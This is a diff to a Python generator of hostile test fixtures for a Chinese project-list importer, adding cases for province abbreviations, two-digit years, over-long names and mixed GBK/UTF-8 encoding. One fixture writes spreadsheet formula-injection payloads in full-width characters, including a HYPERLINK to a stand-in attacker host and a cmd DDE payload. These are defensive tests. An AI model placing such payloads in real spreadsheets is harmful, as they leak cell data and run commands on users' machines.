@@ -472,7 +472,90 @@ def write_hostile2() -> None:
     (HERE / "very_wide.xlsx").write_bytes(saved(book))
 
 
-# ------------------------------------------------------------------------------- real lists, round 3
+# ------------------------------------------------------------------------------- hostile corpus, round 3
+# The classes round 2 left refused or only warned about: one file each; tests/test_import_hostile3.py.
+
+# Province abbreviations (简称) in a province column, beside a city column.
+PROVINCE_ABBREVIATIONS = """项目名称,省份,城市,总投资（万元）,建设起止年限
+苏锡先进封装项目,苏,无锡,1000,2024-2026
+浙江省级储能项目,浙,,2000,2024-2026
+沪上集成电路项目,沪,,3000,2024-2026
+苏州城市名项目,,苏州,4000,2024-2026
+苏省全称项目,苏省,南京市,5000,2024-2026
+蜀地锂电项目,蜀,成都,6000,2024-2026
+黔贵数据中心项目,黔,贵阳,7000,2024-2026
+滇云光伏项目,滇,,8000,2024-2026
+陇甘风电项目,陇,兰州,9000,2024-2026
+秦陕航空项目,秦,西安,1100,2024-2026
+蒙鄂尔多斯氢能项目,蒙,鄂尔多斯,1200,2024-2026
+港岛芯片设计项目,港,,1300,2024-2026
+苏北区域项目,苏北,,1400,2024-2026
+京津冀协同项目,京津冀,,1500,2024-2026
+"""
+
+# The same in one place column, in the ways people write them.
+PLACE_ABBREVIATIONS = """项目名称,建设地点,总投资（万元）
+间隔号项目,苏·无锡,1000
+空格项目,苏 无锡,2000
+苏州名称项目,苏州市工业园区,3000
+沪市项目,沪市,4000
+渝项目,渝,5000
+区名项目,苏/鼓楼区,6000
+京区名项目,京 朝阳区,7000
+粤深项目,粤-深圳,8000
+苏某园区项目,苏某某园区,9000
+"""
+
+# Two-digit years in year columns; 24 as an amount and inside a name stays as it is.
+TWO_DIGIT_YEARS = """项目名称,建设地点,总投资（万元）,开工年份,竣工年份,建设年限
+撇号年份项目,江苏省南京市,24,'24,'26,
+年月项目,江苏省苏州市,1000,24年3月,26年12月,
+区间项目,江苏省无锡市,2000,,,24-26年
+点号区间项目,江苏省常州市,3000,,,24.3-26.12
+裸数字项目,江苏省徐州市,4000,24,26年,
+年数项目,江苏省扬州市,5000,,,10年
+九八年项目,江苏省镇江市,6000,98,99,
+八五年项目,江苏省泰州市,7000,85,,
+24小时智慧物流项目,江苏省盐城市,8000,2024,2026,
+混合区间项目,江苏省淮安市,9000,,,24年至2026年
+"""
+
+
+def write_hostile3() -> None:
+    import openpyxl
+
+    (HERE / "province_abbreviations.csv").write_bytes(PROVINCE_ABBREVIATIONS.encode("utf-8"))
+    (HERE / "place_abbreviations.csv").write_bytes(PLACE_ABBREVIATIONS.encode("gbk"))
+    (HERE / "two_digit_years.csv").write_bytes(TWO_DIGIT_YEARS.encode("utf-8"))
+    # Names around the hard bound: 1,000 characters (a warning), 1,001 and 100,000 (the row refused).
+    rows = ["项目名称,建设地点,总投资（万元）", "正常名称项目,江苏省南京市,1000",
+            "长" * 998 + "项目,江苏省苏州市,2000", "超" * 999 + "项目,江苏省无锡市,3000",
+            "巨" * 99_998 + "项目,江苏省常州市,4000", "另一正常项目,江苏省徐州市,5000"]
+    (HERE / "name_over_limit.csv").write_bytes(("\n".join(rows) + "\n").encode("utf-8"))
+    # A 5,000-character name in a workbook (refused there too).
+    book = openpyxl.Workbook()
+    for row in [["项目名称", "建设地点", "总投资（万元）"], ["工作簿正常项目", "江苏省南京市", 1000],
+                ["册" * 5000, "江苏省苏州市", 2000]]:
+        book.active.append(row)
+    book.save(HERE / "name_over_limit.xlsx")
+    # A GBK file with two UTF-8 lines pasted in: most lines are GBK, and the message must say so.
+    gbk_rows = SIMPLE.splitlines(keepends=True) + [f"南京第{i}号配套项目,江苏省南京市,10,2024-2025\n" for i in range(6)]
+    utf8_rows = ["无锡物联网感知产业基地,江苏省无锡市,3000,2025-2027\n",
+                 "常州动力电池二期项目,江苏省常州市,4000,2024-2026\n"]
+    (HERE / "mixed_mostly_gbk.csv").write_bytes(b"".join(r.encode("gbk") for r in gbk_rows[:4])
+                                                + utf8_rows[0].encode("utf-8")
+                                                + b"".join(r.encode("gbk") for r in gbk_rows[4:])
+                                                + utf8_rows[1].encode("utf-8"))
+    # Names that start with the full-width forms of = + - @ (a formula, once a CJK spreadsheet folds them).
+    (HERE / "fullwidth_formulas.csv").write_bytes((
+        "项目名称,建设地点,总投资（万元）,项目单位\n"
+        "＝HYPERLINK(http://evil.example/?q=A1),江苏省南京市,1000,＠SUM(1)\n"
+        "＋cmd|' /C calc'!A0,江苏省苏州市,2000,普通单位\n"
+        "－2＋3＋cmd|' /C calc'!A0,江苏省无锡市,3000,﹦1+1\n"
+        "正常项目＝名称中间,江苏省常州市,4000,－\n").encode())
+
+
+# ------------------------------------------------------------------------------------- real lists
 # Classes found by importing lists transcribed from published pages (sheets of 集中开工, 签约 and 重点项目
 # announcements): one synthetic file each; tests/test_import_lists.py.
 
@@ -551,6 +634,7 @@ def write_all() -> None:
         pass
     write_hostile()
     write_hostile2()
+    write_hostile3()
     write_lists()
 
 
